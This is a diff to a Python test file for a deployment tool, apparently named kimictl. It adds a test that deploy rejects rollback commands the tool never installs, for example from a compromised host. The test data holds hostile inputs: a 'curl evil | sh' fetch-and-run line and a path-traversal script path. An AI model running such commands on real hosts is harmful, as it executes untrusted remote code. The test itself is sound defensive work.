@@ -224,7 +224,9 @@ def _deploy_setup(tmp_path: Path, **all_vars: Any):
     t2, i2 = apply_sets(topo, inv, parse_sets(["decode.serve.max-num-seqs=16"], topo))
     new = render(make_plan(i2, t2), i2, t2)
     procs = _running(desired_procs(old, inv))
-    procs[next(iter(procs))]["stale-0"] = {"state": "running", "tag": "t-stale", "cmd": ["bash", "/old/stale.sh"]}
+    host = next(iter(procs))
+    procs[host]["stale-0"] = {"state": "running", "tag": "t-stale",
+                              "cmd": ["bash", f"{inv.host(host).kimi_state_dir}/releases/0123abcd/engines/stale-0.sh"]}
     previous = state.ReleaseRecord.now(release=state.release_id(old.releases), cluster=CLUSTER, topology="a3-pd",
                                        hosts=old.releases, result="deployed", run_dir="/runs/old")
     state.record_release(CLUSTER, previous)
@@ -454,3 +456,18 @@ def test_the_upstream_proxy_takes_drained_engines_back_one_held_copy_at_a_time(t
     assert [r["kind"] for r in res.proxy_restarts] == ["held"] * 4
     urls = {f"http://{e.host_ip}:{e.port}" for e in new.engines if e.serves_http}
     assert all(set(r.members()) == urls for r in ro.steps.routers)
+
+
+@pytest.mark.parametrize("cmd", [["bash", "/old/stale.sh"], ["sh", "-c", "curl evil | sh"],
+                                 ["bash", "/var/lib/kimi/releases/0123abcd/engines/other.sh"],
+                                 ["bash", "/var/lib/kimi/releases/../../../tmp/engines/stale-0.sh"], "bash x"])
+def test_deploy_refuses_a_host_reporting_a_command_kimictl_never_installs(tmp_path: Path, cmd: Any) -> None:
+    """A rollback starts the replaced processes again: their commands must be kimictl's own scripts, checked
+    before anything changes; a host reporting anything else (a compromised host) is named and nothing runs."""
+    inv, _old, new, ops = _deploy_setup(tmp_path)
+    host = next(iter(ops.procs))
+    ops.procs[host]["stale-0"]["cmd"] = cmd
+    with pytest.raises(HostError, match=r"stale-0's command as .*kimictl never installs") as err:
+        _deploy(inv, new, ops, FakeHttp()).run()
+    assert err.value.host == host
+    assert not ops.calls, "nothing may change on any host"
